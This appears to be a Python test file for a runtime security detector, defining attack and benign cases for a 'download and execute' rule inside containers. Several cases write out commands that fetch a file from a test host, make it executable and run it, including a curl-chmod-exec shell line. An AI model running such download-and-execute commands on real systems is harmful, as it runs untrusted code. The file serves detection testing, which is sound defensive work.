# SPDX-License-Identifier: Apache-2.0
"""What was fetched while warm is run."""
from cases import Rule

rule = Rule("function.download_exec", severity="high")

FETCH = ("import os, urllib.request\nopen({0!r}, 'wb').write(urllib.request.urlopen('http://10.66.0.9:8600/').read())\n"
         "os.chmod({0!r}, 0o755)\n")


def served(case):
    case.serve(8600, case.stage.trigger.read_bytes())
    return case.container()


@rule.attack("fetched, written and run in one request")
def _(case):
    function = served(case)
    case.act()
    function.python(FETCH.format("/tmp/tool") + "if os.fork() == 0:\n    os.execv('/tmp/tool', ['tool', 'nothing'])\nos.wait()",
                    limit=60)


@rule.attack("fetched in one request and run in the next")
def _(case):
    function = served(case)
    function.python(FETCH.format("/app/tool"), limit=60)
    case.act()
    function.run("/app/tool", "nothing")


@rule.attack("by curl and chmod of a child", needs=lambda: "" if __import__("shutil").which("curl") else "no curl here")
def _(case):
    function = served(case)
    case.act()
    function.run("/usr/bin/sh", "-c", "curl -s -o /tmp/t http://10.66.0.9:8600/ && chmod +x /tmp/t && /tmp/t nothing")


@rule.quiet("a contact, and then a program of the image")
def _(case):
    function = served(case)
    function.python("import urllib.request\nurllib.request.urlopen('http://10.66.0.9:8600/').read()", limit=60)
    function.run("/usr/bin/date", check=True)


@rule.quiet("fetched and run in init: a driver")
def _(case):
    case.serve(8600, case.stage.trigger.read_bytes())
    case.container(init=FETCH.format("/tmp/tool") + "if os.fork() == 0:\n    os.execv('/tmp/tool', ['tool', 'nothing'])\nos.wait()")
